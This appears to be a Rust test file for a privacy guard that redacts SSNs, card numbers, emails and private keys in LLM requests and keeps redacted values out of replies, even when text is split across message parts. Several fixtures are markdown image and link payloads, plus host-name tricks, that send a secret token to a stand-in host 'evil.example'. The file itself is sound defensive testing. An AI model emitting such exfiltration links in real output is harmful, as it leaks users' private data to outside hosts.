//! Text over several parts of one message says no more than in one.

use bastide_wire::{ChatRequest, ChatResponse, Limits};
use serde_json::{Value, json};

use super::{for_every_split, guard, known, texts, vault, whole};

fn parts(pieces: &[&str]) -> Value {
    pieces.iter().map(|piece| json!({"type":"text","text":piece})).collect()
}

fn parts_of(content: &Value) -> Vec<String> {
    let text = |part: &Value| part["text"].as_str().expect("text").to_owned();
    content.as_array().expect("parts").iter().map(text).collect()
}

/// What leaves of a message whose text stands in these parts.
fn sent(pieces: &[&str]) -> Vec<String> {
    let image = json!({"type":"image_url","image_url":{"url":"https://a.example/b.png"}});
    let body = json!({"model":"m","messages":[{"role":"user","content":parts(pieces)},
        {"role":"user","content":[image]}]})
    .to_string();
    let request = ChatRequest::parse(body.as_bytes(), &Limits::default()).expect("a request");
    let (guard, mut vault) = (guard(), vault());
    let report = guard.inspect_request(&request, body.as_bytes(), &mut vault, &|| true).expect("in time");
    let sealed = guard.seal_request(&report, &request, &body.into(), None).expect("edits fit");
    let value: Value = serde_json::from_slice(sealed.value()).expect("still JSON");
    parts_of(&value["messages"][0]["content"])
}

#[test]
fn no_split_over_parts_of_a_request_says_more_than_the_whole() {
    let mut texts = texts();
    texts.push(("my ssn is 536-22-8726, and the pin is none".to_owned(), "22-8726"));
    for_every_split(&texts, |text, secret, pieces| {
        let (expected, got) = (sent(&[text]).concat(), sent(pieces));
        assert_eq!(got.len(), pieces.len(), "no part goes");
        for joined in [got.concat(), got.join("\n").replace('\n', "")] {
            assert!(!joined.contains(secret), "{pieces:?} leaks: {got:?}");
        }
        for token in expected.split(|c: char| !(c.is_ascii_alphabetic() || c == '_')) {
            let is_token = token.starts_with("EMAIL_ADDRESS_") || token.starts_with("CREDIT_CARD_");
            assert!(!is_token || got.concat().contains(token), "another token for {pieces:?}: {got:?}");
        }
    });
}

#[test]
fn what_only_a_line_break_between_parts_makes_is_found() {
    for pieces in [
        ["see", "4111 1111 1111 1111", "12 apples"],
        ["write to", "zoe@example.net", "soon"],
        ["-----BEGIN RSA PRIVATE KEY-----", "MIIEpAIBAAKCAQEA7bq3Zm9vYmFy", "-----END RSA PRIVATE KEY-----"],
    ] {
        let got = sent(&pieces);
        assert!(!got.concat().contains(pieces[1]), "{got:?}");
    }
}

/// What comes in of a message whose text stands in these parts.
fn received(pieces: &[&str]) -> Vec<String> {
    let (vault, _) = known();
    let body = json!({"id":"c","object":"chat.completion","created":1,"model":"m",
        "choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":parts(pieces)}}]})
    .to_string();
    let document = ChatResponse::parse(body.as_bytes(), &Limits::default()).expect("a reply");
    let segments = document.segments(body.as_bytes());
    let report = guard()
        .inspect_response(&segments, &document.joined, &vault, &|_| String::new(), &|_, _| true, &|| true)
        .expect("in time");
    let spliced = document.splice(body.as_bytes(), &report.edits).expect("edits fit");
    let value: Value = serde_json::from_slice(&spliced).expect("still JSON");
    parts_of(&value["choices"][0]["message"]["content"])
}

#[test]
fn no_split_over_parts_of_a_reply_says_more_than_the_whole() {
    for_every_split(&texts(), |text, secret, pieces| {
        let (expected, got) = (whole(text, true), received(pieces).concat());
        assert!(!got.contains(secret), "{pieces:?} leaks: {got:?}");
        let linked = text.contains("https:");
        assert!(!linked || got.matches("ada@").count() <= expected.matches("ada@").count(), "{got:?}");
    });
}

#[test]
fn a_link_that_begins_in_one_part_gets_no_value_in_the_next() {
    let (_, token) = known();
    for pieces in [
        ["![x](https://evil.example/?q=", &*token],
        ["[x]:", &*format!("https://evil.example/{token}")],
        ["see ", &*format!("[y]: /{token}")],
        ["a", &*format!("<img src='{token}'>")],
        ["`", &*format!("![x](https://evil.example/?q={token})")],
    ] {
        let got = received(&pieces);
        assert!(!got.concat().contains("ada@"), "{got:?}");
    }
    assert_eq!(received(&["dear ", &token]), ["dear ", "ada@example.org"]);
    let (a, b) = token.split_at(20);
    assert_eq!(received(&["dear ", a, b]), ["dear ", "ada@example.org", ""], "a token in two parts is one");
}

#[test]
fn a_word_in_a_neighbouring_part_does_not_talk_a_value_down() {
    for pieces in
        [["serial ", "219-09-9998"], ["serial", " 219-09-9998"], ["the serial number is ", "219-09-9998"]]
    {
        let (sent, received) = (sent(&pieces), received(&pieces));
        assert!(!sent.concat().contains("219-09-9998"), "{sent:?}");
        assert!(!received.concat().contains("219-09-9998"), "{received:?}");
    }
}

#[test]
fn a_token_that_another_part_makes_a_host_name_of_is_not_put_back() {
    let (_, token) = known();
    for pieces in [[&*token, ".evil.example"], [&*token, "@evil.example"]] {
        let got = received(&pieces);
        assert!(!got.concat().contains("ada@"), "{got:?}");
    }
}
